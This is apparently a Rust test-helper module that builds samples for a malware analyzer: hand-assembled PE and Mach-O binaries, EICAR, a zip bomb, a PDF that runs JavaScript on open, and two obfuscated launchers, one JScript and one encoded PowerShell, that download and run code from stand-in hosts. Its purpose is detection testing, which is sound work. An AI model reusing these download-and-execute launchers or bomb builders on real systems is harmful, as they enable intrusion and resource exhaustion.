//! Sample builders for tests and benches: hand-made PEs, EICAR, obfuscated scripts, ZIPs.
//!
//! Public (but hidden from docs) so that the engine's integration tests and benches can reuse
//! them; it depends on nothing beyond the analyzer's own dependencies. The PE builder writes a
//! minimal but valid PE32 (DOS header and stub, COFF and optional header, section table, an
//! import directory in its own `.idata` section) that goblin and Windows loaders both accept.
//! Builders must never panic: they are plain byte assembly with no fallible steps.

use std::io::{Cursor, Write};

use base64::Engine as _;
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

/// The 68-byte EICAR anti-virus test string.
pub fn eicar() -> &'static [u8] {
    br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
}

/// Extra knobs for [`pe_with_options`].
#[derive(Debug, Clone)]
pub struct PeOptions {
    pub timestamp: u32,
    /// Bytes appended after the last section (before any certificate).
    pub overlay: Vec<u8>,
    /// Authenticode blob contents; wrapped in a WIN_CERTIFICATE header at the end of the file.
    pub certificate: Option<Vec<u8>>,
}

impl Default for PeOptions {
    fn default() -> Self {
        // 2020-09-13T12:26:40Z: a plausible build date.
        PeOptions { timestamp: 1_600_000_000, overlay: Vec::new(), certificate: None }
    }
}

const FILE_ALIGN: usize = 0x200;
const SECT_ALIGN: usize = 0x1000;
const PE_OFFSET: usize = 0x80;

fn align(v: usize, a: usize) -> usize {
    v.div_ceil(a) * a
}

fn put16(buf: &mut [u8], at: usize, v: u16) {
    buf[at..at + 2].copy_from_slice(&v.to_le_bytes());
}

fn put32(buf: &mut [u8], at: usize, v: u32) {
    buf[at..at + 4].copy_from_slice(&v.to_le_bytes());
}

/// A minimal PE32 with the given imports (`dll`, functions) and sections (name, raw contents,
/// executable). An `.idata` section is added when there are imports.
pub fn minimal_pe(imports: &[(&str, &[&str])], sections: &[(&str, &[u8], bool)]) -> Vec<u8> {
    pe_with_options(imports, sections, &PeOptions::default())
}

/// The import directory for `imports` placed at `base` RVA: (bytes, directory size).
fn idata(imports: &[(&str, &[&str])], base: usize) -> (Vec<u8>, usize) {
    let desc_size = (imports.len() + 1) * 20;
    let mut off = desc_size;
    let mut thunks = Vec::new();
    for (_, funcs) in imports {
        let ilt = off;
        off += (funcs.len() + 1) * 4;
        thunks.push((ilt, off));
        off += (funcs.len() + 1) * 4;
    }
    let mut strings: Vec<u8> = Vec::new();
    let mut names = Vec::new();
    let mut hints = Vec::new();
    let push_str = |strings: &mut Vec<u8>, s: &str| {
        strings.extend_from_slice(s.as_bytes());
        strings.push(0);
        if strings.len() % 2 == 1 {
            strings.push(0);
        }
    };
    for (dll, funcs) in imports {
        names.push(off + strings.len());
        push_str(&mut strings, dll);
        let mut hs = Vec::new();
        for f in *funcs {
            hs.push(off + strings.len());
            strings.extend_from_slice(&[0, 0]);
            push_str(&mut strings, f);
        }
        hints.push(hs);
    }
    let mut buf = vec![0u8; off + strings.len()];
    for (i, ((ilt, iat), hs)) in thunks.iter().zip(&hints).enumerate() {
        let d = i * 20;
        put32(&mut buf, d, (base + ilt) as u32);
        put32(&mut buf, d + 12, (base + names[i]) as u32);
        put32(&mut buf, d + 16, (base + iat) as u32);
        for (j, h) in hs.iter().enumerate() {
            put32(&mut buf, ilt + 4 * j, (base + h) as u32);
            put32(&mut buf, iat + 4 * j, (base + h) as u32);
        }
    }
    buf[off..].copy_from_slice(&strings);
    (buf, desc_size)
}

struct Laid {
    name: Vec<u8>,
    data: Vec<u8>,
    flags: u32,
    rva: usize,
    raw: usize,
}

struct Layout {
    rva: usize,
    raw: usize,
    laid: Vec<Laid>,
}

impl Layout {
    fn lay(&mut self, name: &str, data: Vec<u8>, flags: u32) {
        let l = Laid { name: name.as_bytes().to_vec(), data, flags, rva: self.rva, raw: self.raw };
        self.rva += align(l.data.len().max(1), SECT_ALIGN);
        self.raw += align(l.data.len(), FILE_ALIGN);
        self.laid.push(l);
    }
}

/// [`minimal_pe`] with a chosen timestamp, overlay and Authenticode blob.
pub fn pe_with_options(
    imports: &[(&str, &[&str])],
    sections: &[(&str, &[u8], bool)],
    opts: &PeOptions,
) -> Vec<u8> {
    let count = sections.len() + usize::from(!imports.is_empty());
    let headers = align(PE_OFFSET + 4 + 20 + 224 + 40 * count, FILE_ALIGN);
    let mut layout = Layout { rva: SECT_ALIGN, raw: headers, laid: Vec::new() };
    for (name, data, exec) in sections {
        let flags = if *exec { 0x6000_0020 } else { 0x4000_0040 };
        layout.lay(name, data.to_vec(), flags);
    }
    let mut import_dir = (0, 0);
    if !imports.is_empty() {
        let (bytes, size) = idata(imports, layout.rva);
        import_dir = (layout.rva, size);
        layout.lay(".idata", bytes, 0xC000_0040);
    }
    let Layout { rva, raw, laid } = layout;
    let (image_size, raw_end) = (rva, raw);
    let mut f = vec![0u8; raw_end];
    f[0..2].copy_from_slice(b"MZ");
    put32(&mut f, 0x3C, PE_OFFSET as u32);
    let stub = b"This program cannot be run in DOS mode.\r\r\n$";
    f[0x4E..0x4E + stub.len()].copy_from_slice(stub);
    let p = PE_OFFSET;
    f[p..p + 4].copy_from_slice(b"PE\0\0");
    put16(&mut f, p + 4, 0x14C);
    put16(&mut f, p + 6, count as u16);
    put32(&mut f, p + 8, opts.timestamp);
    put16(&mut f, p + 20, 224);
    put16(&mut f, p + 22, 0x0102);
    let o = p + 24;
    put16(&mut f, o, 0x10B);
    f[o + 2] = 14;
    let code = laid.iter().find(|l| l.flags & 0x20 != 0);
    put32(&mut f, o + 4, code.map_or(0, |l| align(l.data.len(), FILE_ALIGN)) as u32);
    put32(&mut f, o + 16, code.map_or(0, |l| l.rva) as u32);
    put32(&mut f, o + 20, code.map_or(0, |l| l.rva) as u32);
    put32(&mut f, o + 28, 0x40_0000);
    put32(&mut f, o + 32, SECT_ALIGN as u32);
    put32(&mut f, o + 36, FILE_ALIGN as u32);
    put16(&mut f, o + 40, 6);
    put16(&mut f, o + 48, 6);
    put32(&mut f, o + 56, image_size as u32);
    put32(&mut f, o + 60, headers as u32);
    put16(&mut f, o + 68, 3);
    put32(&mut f, o + 72, 0x10_0000);
    put32(&mut f, o + 76, 0x1000);
    put32(&mut f, o + 80, 0x10_0000);
    put32(&mut f, o + 84, 0x1000);
    put32(&mut f, o + 92, 16);
    put32(&mut f, o + 96 + 8, import_dir.0 as u32);
    put32(&mut f, o + 96 + 12, import_dir.1 as u32);
    let table = o + 224;
    for (i, l) in laid.iter().enumerate() {
        let s = table + 40 * i;
        let n = l.name.len().min(8);
        f[s..s + n].copy_from_slice(&l.name[..n]);
        put32(&mut f, s + 8, l.data.len().max(1) as u32);
        put32(&mut f, s + 12, l.rva as u32);
        let raw_size = align(l.data.len(), FILE_ALIGN);
        put32(&mut f, s + 16, raw_size as u32);
        put32(&mut f, s + 20, if raw_size == 0 { 0 } else { l.raw as u32 });
        put32(&mut f, s + 36, l.flags);
        f[l.raw..l.raw + l.data.len()].copy_from_slice(&l.data);
    }
    f.extend_from_slice(&opts.overlay);
    if let Some(cert) = &opts.certificate {
        let at = align(f.len(), 8);
        f.resize(at, 0);
        let len = align(8 + cert.len(), 8);
        f.extend_from_slice(&(len as u32).to_le_bytes());
        f.extend_from_slice(&0x0200u16.to_le_bytes());
        f.extend_from_slice(&0x0002u16.to_le_bytes());
        f.extend_from_slice(cert);
        f.resize(at + len, 0);
        put32(&mut f, o + 96 + 4 * 8, at as u32);
        put32(&mut f, o + 96 + 4 * 8 + 4, len as u32);
    }
    f
}

/// A PE importing the classic remote-thread injection trio from kernel32.dll.
pub fn injector_pe() -> Vec<u8> {
    let text: &[u8] = &[0x55, 0x8B, 0xEC, 0x33, 0xC0, 0x5D, 0xC3];
    minimal_pe(
        &[("KERNEL32.dll", &["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"])],
        &[(".text", text, true), (".data", b"hello from data", false)],
    )
}

/// Deterministic pseudo-random bytes (xorshift), for high-entropy content without a rand dep.
pub fn pseudo_random(len: usize, seed: u64) -> Vec<u8> {
    let mut x = seed | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

/// A PE that looks UPX-packed: UPX0 (empty) and UPX1 (high-entropy, executable) sections and
/// the tiny import table of a packer stub.
pub fn packed_pe() -> Vec<u8> {
    let blob = pseudo_random(64 * 1024, 7);
    minimal_pe(
        &[("KERNEL32.DLL", &["LoadLibraryA", "GetProcAddress", "VirtualProtect"])],
        &[("UPX0", &[], true), ("UPX1", &blob, true)],
    )
}

/// JavaScript with three layers: `eval` of `atob` of a `String.fromCharCode` that spells a
/// base64 string, which decodes to code that fetches [`OBFUSCATED_JS_URL`].
pub fn obfuscated_js() -> String {
    let inner = format!(
        "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', '{OBFUSCATED_JS_URL}', false);"
    );
    let b64 = base64::engine::general_purpose::STANDARD.encode(inner);
    let codes: Vec<String> = b64.bytes().map(|b| b.to_string()).collect();
    format!("var _0x1 = 1;\neval(atob(String.fromCharCode({})));\n", codes.join(","))
}

/// The URL hidden inside [`obfuscated_js`].
pub const OBFUSCATED_JS_URL: &str = "http://malicious.example.com/payload.bin";

/// A PowerShell launcher whose `-EncodedCommand` (UTF-16LE base64) downloads and runs a script.
pub fn encoded_powershell() -> String {
    let inner = format!("IEX (New-Object Net.WebClient).DownloadString('{ENCODED_PS_URL}')");
    let utf16: Vec<u8> = inner.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let b64 = base64::engine::general_purpose::STANDARD.encode(utf16);
    let flags = "-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass";
    format!("powershell.exe {flags} -EncodedCommand {b64}\n")
}

/// The URL hidden inside [`encoded_powershell`].
pub const ENCODED_PS_URL: &str = "http://203.0.113.7/stage2.ps1";

/// A ZIP with the given (name, contents) entries, deflated.
pub fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    for (name, data) in entries {
        if w.start_file(*name, opts).is_ok() {
            let _ = w.write_all(data);
        }
    }
    w.finish().map(Cursor::into_inner).unwrap_or_default()
}

/// A ZIP containing a ZIP containing `inner.txt`.
pub fn nested_zip() -> Vec<u8> {
    let inner = zip_of(&[("inner.txt", b"hello from the inside"), ("tool.exe", b"MZ")]);
    let middle = zip_of(&[("middle.zip", &inner), ("readme.txt", b"nested archive")]);
    zip_of(&[("outer.zip", &middle)])
}

/// A decompression bomb: one entry of `mib` MiB of zeros (about 1000:1), written in streaming
/// chunks with the fastest compression level so building it stays cheap.
pub fn zip_bomb(mib: usize) -> Vec<u8> {
    let mut w = ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default()
        .compression_method(CompressionMethod::Deflated)
        .compression_level(Some(1));
    let chunk = vec![0u8; 1 << 20];
    if w.start_file("zeros.bin", opts).is_ok() {
        for _ in 0..mib {
            if w.write_all(&chunk).is_err() {
                break;
            }
        }
    }
    w.finish().map(Cursor::into_inner).unwrap_or_default()
}

/// [`zip_of`] with every entry marked encrypted (ZipCrypto flag set; the data is not really
/// encrypted, which is all a reader that cannot decrypt ever sees).
pub fn encrypted_zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut z = zip_of(entries);
    for i in 0..z.len().saturating_sub(10) {
        match &z[i..i + 4] {
            b"PK\x03\x04" => z[i + 6] |= 1,
            b"PK\x01\x02" => z[i + 8] |= 1,
            _ => {}
        }
    }
    z
}

/// A minimal 64-bit x86_64 Mach-O executable: one `__TEXT` segment with one `__text` section
/// holding `code`.
pub fn minimal_macho(code: &[u8]) -> Vec<u8> {
    const HEADER: usize = 32;
    const COMMANDS: usize = 72 + 80;
    let offset = HEADER + COMMANDS;
    let mut f = Vec::with_capacity(offset + code.len());
    let u32s = |f: &mut Vec<u8>, vals: &[u32]| vals.iter().for_each(|v| f.extend(v.to_le_bytes()));
    let name16 = |f: &mut Vec<u8>, name: &str| {
        let mut n = [0u8; 16];
        n[..name.len()].copy_from_slice(name.as_bytes());
        f.extend(n);
    };
    u32s(&mut f, &[0xFEED_FACF, 0x0100_0007, 3, 2, 1, COMMANDS as u32, 0, 0]);
    u32s(&mut f, &[0x19, COMMANDS as u32]);
    name16(&mut f, "__TEXT");
    f.extend(0x1_0000_0000u64.to_le_bytes());
    f.extend(0x1000u64.to_le_bytes());
    f.extend(0u64.to_le_bytes());
    f.extend(((offset + code.len()) as u64).to_le_bytes());
    u32s(&mut f, &[5, 5, 1, 0]);
    name16(&mut f, "__text");
    name16(&mut f, "__TEXT");
    f.extend((0x1_0000_0000u64 + offset as u64).to_le_bytes());
    f.extend((code.len() as u64).to_le_bytes());
    u32s(&mut f, &[offset as u32, 0, 0, 0, 0x8000_0400, 0, 0, 0]);
    f.extend_from_slice(code);
    f
}

/// A universal (fat) binary holding [`minimal_macho`] once, at a 4 KiB-aligned offset.
pub fn fat_macho(code: &[u8]) -> Vec<u8> {
    let thin = minimal_macho(code);
    let mut f = Vec::new();
    for v in [0xCAFE_BABEu32, 1, 0x0100_0007, 3, 4096, thin.len() as u32, 12] {
        f.extend(v.to_be_bytes());
    }
    f.resize(4096, 0);
    f.extend(thin);
    f
}

/// A PDF skeleton that runs JavaScript on open and carries an embedded file.
pub fn malicious_pdf() -> Vec<u8> {
    b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>\n\
      endobj\n2 0 obj << /S /JavaScript /JS (app.alert\\('x'\\); this.exportDataObject\\(\\)) >>\n\
      endobj\n3 0 obj << /Type /EmbeddedFile /Length 4 >> stream\nMZ..\nendstream endobj\n%%EOF\n"
        .to_vec()
}
